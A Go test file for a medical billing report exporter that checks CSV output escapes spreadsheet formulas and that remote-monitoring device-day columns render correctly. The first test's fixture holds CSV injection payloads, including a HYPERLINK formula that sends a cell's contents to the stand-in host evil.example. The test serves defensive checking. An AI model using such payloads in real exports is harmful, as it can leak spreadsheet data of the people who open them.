package billing

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/outreach-engine/outreach/internal/care"
)

// The report as CSV writes no cell a spreadsheet would run as a formula (a text cell that
// reaches the report from a closed month's snapshot or an id is shown as text), and its
// numeric columns stay plain numbers.
func TestWriteCSVMakesFormulasInert(t *testing.T) {
	rep := MonthReport{Report: Report{Month: "2026-03", Rows: []Row{
		{Patient: `=HYPERLINK("http://evil.example/?"&A1,"Open")`, Program: care.CCM, BillingNPI: "@SUM(1+1)", Seconds: 1260,
			Status: Billable, Codes: []CodeLine{{Code: Code99490, Units: 1, AmountCents: 6613}}, AmountCents: 6613,
			Reasons: []Reason{"+cmd"}, Next: &Next{Code: Code99439, MinutesNeeded: 19}, UncountedSeconds: 600},
	}}}
	var b strings.Builder
	if err := WriteCSV(&b, rep); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || strings.Join(recs[0], ",") != strings.Join(csvHeader, ",") {
		t.Fatalf("CSV = %q", b.String())
	}
	got := map[string]string{}
	for i, col := range recs[0] {
		got[col] = recs[1][i]
	}
	want := map[string]string{
		"patient": `'=HYPERLINK("http://evil.example/?"&A1,"Open")`, "billing_npi": "'@SUM(1+1)", "reasons": "'+cmd",
		"seconds": "1260", "minutes": "21", "amount": "66.13", "codes": "99490x1", "next_code": "99439", "next_minutes": "19",
		"uncounted_seconds": "600", "next_needs": "", "days": "", "next_device_code": "", "next_device_days": "",
	}
	for col, w := range want {
		if got[col] != w {
			t.Errorf("%s = %q, want %q", col, got[col], w)
		}
	}
}

// An RPM row's days with device data and next device code reach the CSV's last columns and
// the text report.
func TestWriteDeviceDays(t *testing.T) {
	days := 10
	rep := MonthReport{Report: Report{Month: "2026-03", Timezone: "America/New_York", Rows: []Row{
		{Patient: "P3", Program: care.RPM, Status: Billable, Days: &days, Codes: []CodeLine{{Code: Code99445, Units: 1, AmountCents: 4743}},
			AmountCents: 4743, Reasons: []Reason{}, DeviceNext: &DeviceNext{Code: Code99454, DaysNeeded: 6}},
	}}}
	var b strings.Builder
	if err := WriteCSV(&b, rep); err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(b.String(), ",10,99454,6\n") {
		t.Errorf("CSV = %q", b.String())
	}
	b.Reset()
	if err := WriteText(&b, rep); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "0:00, 10 days of data") || !strings.Contains(b.String(), "99454 in 6 days of data") {
		t.Errorf("text:\n%s", b.String())
	}
}
